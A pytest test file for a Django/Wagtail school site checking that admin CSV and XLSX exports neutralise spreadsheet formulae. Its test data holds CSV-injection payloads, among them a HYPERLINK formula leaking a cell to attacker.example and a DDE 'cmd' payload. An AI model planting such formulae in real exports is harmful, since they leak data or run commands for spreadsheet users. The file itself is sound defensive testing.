"""Every spreadsheet export of the admin neutralises formulae (home/spreadsheets.py).

Each export is downloaded through the admin, as CSV and as XLSX, and read back the way a
spreadsheet would read it: a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return must come out with a leading apostrophe, so that opening the file runs nothing.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from home.models.feedback import SENT_FROM_FIELD
from tests import factories
from tests.localoffer import builders

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def csv_rows(response):
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def xlsx_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def download(client, url, export_format, **params):
    response = client.get(url, {"export": export_format, **params})
    return csv_rows(response) if export_format == "csv" else xlsx_rows(response)


def cells(rows):
    return [cell for row in rows for cell in row]


def assert_neutralised(rows, payload):
    # XLSX (XML) reads a carriage return back as a line feed.
    found = [cell.replace("\r", "\n") if isinstance(cell, str) else cell for cell in cells(rows)]
    payload = payload.replace("\r", "\n")
    assert "'" + payload in found, rows
    assert payload not in found


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_parent_feedback_cannot_plant_a_formula(client, admin_client, school, export_format):
    form_page = factories.feedback_form_page()
    about = factories.standard_page(title="Visiting the school", slug="visiting")
    # Anonymous visitors send the payloads through the public form (which trims leading
    # tabs and line breaks, leaving the formula behind them).
    for payload in PAYLOADS:
        response = client.post(
            "/feedback/",
            {"what_went_wrong": payload, "your_name": "-Sam", SENT_FROM_FIELD: str(about.pk)},
        )
        assert response.status_code == 200
    rows = download(admin_client, f"/admin/forms/submissions/{form_page.pk}/", export_format)
    assert rows[0][:2] == ["Submission date", "What went wrong?"]
    assert len(rows) == 1 + len(PAYLOADS)
    for payload in PAYLOADS:
        assert_neutralised(rows, payload.strip())
    assert "'-Sam" in cells(rows)
    # Ordinary answers are left as they are.
    assert "/visiting/" in cells(rows)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_form_field_label_cannot_plant_a_formula(admin_client, school, export_format):
    form_page = factories.feedback_form_page()
    field = form_page.form_fields.get(label="Your name")
    field.label = "=1+1 name"
    field.save()
    rows = download(admin_client, f"/admin/forms/submissions/{form_page.pk}/", export_format)
    assert "'=1+1 name" in rows[0]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_services_export(admin_client, school, export_format):
    builders.service(
        name=HYPERLINK,
        contact_name="@Jo Bloggs",
        minimum_age=4,
        maximum_age=11,
        provider=builders.organisation(name="+Westmere CAMHS"),
    )
    rows = download(admin_client, "/admin/snippets/localoffer/service/", export_format)
    assert_neutralised(rows, HYPERLINK)
    assert "'@Jo Bloggs" in cells(rows) and "'+Westmere CAMHS" in cells(rows)
    # Numbers stay numbers (in XLSX they keep their type).
    assert (4 if export_format == "xlsx" else "4") in cells(rows)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_organisations_export(admin_client, school, export_format):
    builders.organisation(name=HYPERLINK, email="team@westmere.example")
    rows = download(admin_client, "/admin/snippets/localoffer/organisation/", export_format)
    assert_neutralised(rows, HYPERLINK)
    assert "team@westmere.example" in cells(rows)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_glossary_export(admin_client, school, export_format):
    factories.glossary_term("-EHCP", abbreviation="@EHC", definition=HYPERLINK)
    factories.glossary_term("Tab", definition="\t=1+1")
    factories.glossary_term("Return", definition="\r=1+1")
    rows = download(admin_client, "/admin/snippets/senreport/glossaryterm/", export_format)
    for payload in (HYPERLINK, "\t=1+1", "\r=1+1"):
        assert_neutralised(rows, payload)
    assert {"'-EHCP", "'@EHC", "Tab"} <= set(cells(rows))


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_wagtails_own_reports(admin_client, school, export_format):
    page = factories.standard_page(title=HYPERLINK, slug="formula")
    page.last_published_at = timezone.now() - timedelta(days=400)
    page.save()
    rows = download(admin_client, "/admin/reports/aging-pages/", export_format)
    assert_neutralised(rows, HYPERLINK)
    rows = download(admin_client, "/admin/reports/site-history/", export_format)
    assert "'" + HYPERLINK in " ".join(str(cell) for cell in cells(rows))


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_trust_overview_export(admin_client, school, export_format):
    """School names are typed by trust staff; the overview's spreadsheet runs none of them."""
    for payload in ("-2+3", "@SUM(1+1)"):
        school.school_name = payload
        school.save()
        rows = download(admin_client, "/admin/trust/", export_format)
        assert_neutralised(rows, payload)
        assert rows[0][:4] == ["School", "Type", "Website", "Legal duties met"]
